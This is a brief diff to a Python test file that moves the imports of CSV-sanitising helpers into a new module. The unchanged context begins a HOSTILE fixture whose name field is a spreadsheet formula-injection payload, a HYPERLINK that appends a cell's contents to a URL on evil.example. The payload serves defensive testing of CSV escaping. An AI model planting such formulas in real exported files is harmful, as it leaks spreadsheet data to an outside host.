@@ -9,7 +9,9 @@ import json
 import pytest
 
 from facilitator_app.cli import main
-from facilitator_app.store.exchange import PRACTICE_COLUMNS, csv_cell_value, csv_safe_cell
+from facilitator_app.core.csv_safe import cell_value as csv_cell_value
+from facilitator_app.core.csv_safe import safe_cell as csv_safe_cell
+from facilitator_app.store.exchange import PRACTICE_COLUMNS
 
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?d="&A1,"Oak Clinic")',
